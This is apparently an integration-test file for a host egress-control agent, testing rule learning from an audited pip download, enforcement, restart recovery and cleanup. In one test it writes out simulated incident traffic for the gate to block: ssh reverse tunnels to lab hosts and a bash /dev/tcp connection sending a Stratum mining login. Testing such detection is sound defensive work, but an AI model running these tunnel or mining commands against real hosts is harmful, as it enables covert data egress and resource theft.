"""The host agent enforcing like `egress run`, in the lab's host namespace: the round trip
learn -> apply -> rerun with the inline gate stopping the incident's traffic on an allowed
host's port, and a restart of the agent that picks an open flow up as the same flow.

The lab's task host plays the host: the agent, its tasks (by uid) and their traffic run
there; the servers are in the lab's other namespace.
"""

import json
import os
import signal
import subprocess
import time
import tomllib

import pytest

from tests.lab.test_agent import BOUNDED, EGRESS
from tests.lab.test_egress_cases import wheel
from tests.lab.test_incident_live import LOGIN, SSH

UID = 65534                     # nobody: ssh wants a user it can look up

PERMISSIVE = '''version = 1
purpose = "Install the dependencies; audited, to learn from"
task = "learn-1"
mode = "audit"

[[allow]]
host = "*.lab"
ports = ["1-65535"]
protocol = "any"
'''


def as_task(lab, script: str, timeout: float = 60) -> subprocess.CompletedProcess:
    return lab.host("setpriv", "--reuid", str(UID), "--regid", str(UID), "--clear-groups",
                    "env", "HOME=/tmp", "sh", "-c", script, timeout=timeout, check=False)


def start_agent(lab, sock, db, log: str, limits=()):
    agent = lab.spawn("host", *limits, EGRESS, "agent", "--socket", sock, "--db", db, log=log)
    lab.wait_log(log, "listening on", timeout=30)
    return agent


def task(lab, sock, *args) -> subprocess.CompletedProcess:
    return lab.host(EGRESS, "task", *args, "--socket", sock)


def flows_of(db, name: str) -> list[dict]:
    audit = subprocess.run([EGRESS, "audit", "--task", name, "--json", "--no-events", "--db",
                            str(db)], capture_output=True, text=True)
    return [r for r in map(json.loads, audit.stdout.splitlines()) if r.get("kind") == "flow"]


def wait_for(check, timeout: float = 20):
    deadline = time.monotonic() + timeout
    while True:
        got = check()
        if got or time.monotonic() > deadline:
            return got
        time.sleep(0.3)


@pytest.mark.parametrize("limits", [[], BOUNDED], ids=["root", "unit-capabilities"])
def test_learn_apply_rerun_under_the_agent(lab, limits):
    www = lab.dir / "www"
    wheel(www)
    lab.start_dns({"pypi.lab": "203.0.113.10", "relay.lab": "198.51.100.7"})
    shared = lab.shared_dir()
    os.chmod(shared, 0o1777)
    ca = shared / "index-ca.crt"
    ca.write_bytes(lab.start_https("pypi.lab", "203.0.113.10", root=www).read_bytes())
    os.chmod(ca, 0o644)
    relay = lab.start_listener("198.51.100.7", 443)
    benign = (f"cd {shared} && python3 -m pip download --isolated --disable-pip-version-check "
              f"--no-deps --index-url https://pypi.lab/simple/ --cert {ca} --trusted-host pypi.lab -d got-$$ labpkg "
              f">pip-$$.log 2>&1 && echo pip-ok || cat pip-$$.log; curl -s --cacert {ca} -o /dev/null "
              "-w '%{http_code}\\n' https://pypi.lab/simple/labpkg/")
    sock, db = lab.dir / "agent.sock", lab.dir / "egress.db"
    agent = start_agent(lab, sock, db, "agent.log", limits)

    permissive = lab.dir / "permissive.toml"
    permissive.write_text(PERMISSIVE)
    task(lab, sock, "start", "learn-1", "--purpose", permissive, "--uid", str(UID))
    done = as_task(lab, benign)
    assert done.stdout.split() == ["pip-ok", "200"], done.stdout + done.stderr
    task(lab, sock, "stop", "learn-1")
    assert wait_for(lambda: any(f["app"] == "tls" for f in flows_of(db, "learn-1")))

    learned = lab.dir / "learned.toml"
    got = subprocess.run([EGRESS, "rules", "learn", "--task", "learn-1", "--db", str(db),
                          "-o", str(learned)], capture_output=True, text=True)
    assert got.returncode == 0, got.stderr
    text = learned.read_text().replace('task = "learn-1"', 'task = "learned"')
    learned.write_text(text)
    assert tomllib.loads(text)["allow"] == [{"host": "pypi.lab", "ports": [443]}], text

    # The same work under the learned purpose, enforced by the agent: it passes.
    task(lab, sock, "start", "learned", "--purpose", learned, "--uid", str(UID))
    again = as_task(lab, benign)
    assert again.stdout.split() == ["pip-ok", "200"], again.stdout + again.stderr
    # The incident's traffic: a reverse tunnel and a Stratum login to the learned host's
    # 443 (the gate stops them before their first payload), a tunnel to a bare address.
    incident = as_task(lab, f"timeout 5 {SSH} tunnel@pypi.lab; echo ssh=$?; "
                            f"timeout 5 {SSH} tunnel@198.51.100.7; echo relay=$?; "
                            f"timeout 3 bash -c 'exec 3<>/dev/tcp/pypi.lab/443; "
                            f"echo {json.dumps(LOGIN)} >&3; sleep 1; cat <&3'; echo miner=$?")
    codes = dict(line.split("=") for line in incident.stdout.split())
    assert codes["ssh"] != "0" and codes["relay"] != "0" and codes["miner"] != "0", incident
    task(lab, sock, "stop", "learned")
    agent.send_signal(signal.SIGTERM)
    assert agent.wait(timeout=60) == 0, (lab.dir / "agent.log").read_text()

    assert relay.read_bytes() == b""                # nothing reached the bare address
    flows = flows_of(db, "learned")
    tls = [f for f in flows if f["app"] == "tls"]
    assert tls and all(f["verdict"] == "allow" for f in tls)
    stopped = {f["app"] or f["dst"]: {x["id"] for x in f["findings"]}
               for f in flows if f["verdict"] == "block" and f["dport"] == 443}
    assert "reverse-ssh-tunnel" in stopped.get("ssh", ()), (stopped, flows, incident.stdout, incident.stderr)
    assert "mining-stratum" in stopped["stratum"], stopped
    assert "undeclared-destination" in stopped["198.51.100.7"], stopped
    ssh = next(f for f in flows if f["app"] == "ssh")
    assert ssh["action"] == "rejected" and ssh["decided_at"] in ("start", "gate"), ssh
    assert ssh["process"]["exe"] == "/usr/bin/ssh", ssh        # found on the host
    # refused at its first packet, the bare address's tunnel has its process too: the gate
    # looked it up before the refusal reached the task
    refused = next(f for f in flows if f["dst"] == "198.51.100.7")
    assert refused["action"] == "rejected" and refused["process"]["exe"] == "/usr/bin/ssh"


def test_a_restarted_agent_picks_an_open_flow_up_as_the_same_flow(lab):
    lab.start_dns({})
    got = lab.start_listener("203.0.113.40", 8443)
    purpose = lab.dir / "p.toml"
    purpose.write_text('version = 1\npurpose = "talk to the lab"\ntask = "long-1"\n'
                       'mode = "enforce"\nwaive = ["direct-ip"]\n\n[[allow]]\n'
                       'cidr = "203.0.113.40/32"\n'
                       'ports = [8443]\nprotocol = "any"\n')
    sock, db = lab.dir / "agent.sock", lab.dir / "egress.db"
    first = start_agent(lab, sock, db, "agent-1.log")
    task(lab, sock, "start", "long-1", "--purpose", purpose, "--uid", str(UID))
    marker = lab.shared_dir() / "go"          
    client = lab.spawn("host", "setpriv", "--reuid", str(UID), "--regid", str(UID),
                       "--clear-groups", "bash", "-c",
                       "exec 3<>/dev/tcp/203.0.113.40/8443; echo before-restart >&3; "
                       f"while [ ! -e {marker} ]; do sleep 0.2; done; "
                       "echo after-restart-and-more >&3; sleep 1", log="client.log")
    assert wait_for(lambda: got.read_bytes() == b"before-restart\n", 10)
    first.send_signal(signal.SIGTERM)
    assert first.wait(timeout=60) == 0, (lab.dir / "agent-1.log").read_text()
    interim = flows_of(db, "long-1")
    assert [(f["event"], f["verdict"]) for f in interim] == [("interim", "allow")], [(f["findings"], f["rule"]) for f in interim]

    second = start_agent(lab, sock, db, "agent-2.log")
    log = (lab.dir / "agent-2.log").read_text()
    assert "1 task(s) taken back, 1 open flow(s) picked up" in log, log
    assert "long-1\tuid:65534\tenforce" in task(lab, sock, "list").stdout
    marker.touch()
    assert client.wait(timeout=30) == 0
    assert got.read_bytes() == b"before-restart\nafter-restart-and-more\n"
    task(lab, sock, "stop", "long-1")
    second.send_signal(signal.SIGTERM)
    assert second.wait(timeout=60) == 0, (lab.dir / "agent-2.log").read_text()
    final = flows_of(db, "long-1")
    assert len(final) == 1 and final[0]["flow_id"] == interim[0]["flow_id"], final
    flow = final[0]
    assert flow["event"] == "final" and flow["verdict"] == "allow", flow
    assert flow["start"] == interim[0]["start"]
    # conntrack's counters cover the whole connection, before and after the restart
    assert flow["bytes_out"] > interim[0]["bytes_out"], (flow, interim)
    assert not (lab.dir / "agent.state.json").exists()       # no task left to take back
    # two agents wrote interim and final records of one flow: the ledger holds them all
    verified = subprocess.run([EGRESS, "verify", "--db", str(db)], capture_output=True,
                              text=True)
    assert verified.returncode == 0 and "ledger ok" in verified.stdout, verified


def test_the_agent_and_egress_run_share_a_host_without_touching_each_other(lab):
    """An agent task by uid and an `egress run` task at once, on the lab's host: each is
    enforced by its own purpose while the other runs, and after the run has gone, the
    agent's task is enforced as before (the run removed only its own rules)."""
    lab.start_dns({"pypi.lab": "203.0.113.10", "other.lab": "203.0.113.20"})
    lab.start_https("pypi.lab", "203.0.113.10")
    lab.start_https("other.lab", "203.0.113.20")
    sock, db = lab.dir / "agent.sock", lab.dir / "egress.db"
    agent = start_agent(lab, sock, db, "agent.log")
    mine = lab.dir / "agent-task.toml"
    mine.write_text('version = 1\npurpose = "the index"\ntask = "a1"\nmode = "enforce"\n\n'
                    '[[allow]]\nhost = "pypi.lab"\n')
    task(lab, sock, "start", "a1", "--purpose", mine, "--uid", str(UID))
    theirs = lab.dir / "run-task.toml"
    theirs.write_text('version = 1\npurpose = "the mirror"\ntask = "r1"\nmode = "enforce"\n\n'
                      '[[allow]]\nhost = "other.lab"\n')
    curl = "curl -sk --max-time 3 -o /dev/null -w '%{http_code}\\n'"
    run = lab.spawn("host", EGRESS, "run", "--task", "r1", "--purpose", theirs, "--db",
                    lab.dir / "run.db", "--", "sh", "-c",
                    f"{curl} https://other.lab/; sleep 3; {curl} https://203.0.113.10/; true",
                    log="run.log")
    lab.wait_log("run.log", "200", timeout=30)               # the run's task is up
    during = as_task(lab, f"{curl} https://pypi.lab/; {curl} https://203.0.113.20/")
    assert run.wait(timeout=60) == 0, (lab.dir / "run.log").read_text()
    after = as_task(lab, f"{curl} https://pypi.lab/; {curl} https://203.0.113.20/")
    task(lab, sock, "stop", "a1")
    agent.send_signal(signal.SIGTERM)
    assert agent.wait(timeout=60) == 0, (lab.dir / "agent.log").read_text()

    assert during.stdout.split() == ["200", "000"], during
    assert after.stdout.split() == ["200", "000"], after
    assert (lab.dir / "run.log").read_text().split()[:2] == ["200", "000"]
    verdicts = {(f["dst"], f["verdict"]) for f in flows_of(db, "a1") if f["dport"] == 443}
    assert verdicts == {("203.0.113.10", "allow"), ("203.0.113.20", "block")}, verdicts
    ran = {(f["dst"], f["verdict"]) for f in flows_of(lab.dir / "run.db", "r1")
           if f["dport"] == 443}
    assert ran == {("203.0.113.20", "allow"), ("203.0.113.10", "block")}, ran


def test_a_task_that_cannot_come_back_leaves_nothing_behind(lab):
    """Its purpose file is gone when the agent starts again: the agent says so, removes
    what the task left in the kernel (its uid is no longer held by rules nobody enforces),
    and goes on."""
    lab.start_https("other.lab", "203.0.113.20")
    sock, db = lab.dir / "agent.sock", lab.dir / "egress.db"
    purpose = lab.dir / "gone.toml"
    purpose.write_text('version = 1\npurpose = "soon gone"\ntask = "gone-1"\n'
                       'mode = "enforce"\n\n[[allow]]\nhost = "pypi.lab"\n')
    first = start_agent(lab, sock, db, "agent-1.log")
    task(lab, sock, "start", "gone-1", "--purpose", purpose, "--uid", str(UID))
    curl = "curl -sk --max-time 3 -o /dev/null -w '%{http_code}' https://203.0.113.20/"
    assert as_task(lab, curl).stdout == "000"
    first.send_signal(signal.SIGTERM)
    assert first.wait(timeout=60) == 0
    purpose.unlink()
    second = start_agent(lab, sock, db, "agent-2.log")
    assert "task gone-1: not restored" in (lab.dir / "agent-2.log").read_text()
    assert as_task(lab, curl).stdout == "200"         # untagged now, nothing left holding it
    assert task(lab, sock, "list").returncode == 0    # the control socket still answers
    second.send_signal(signal.SIGTERM)
    assert second.wait(timeout=60) == 0
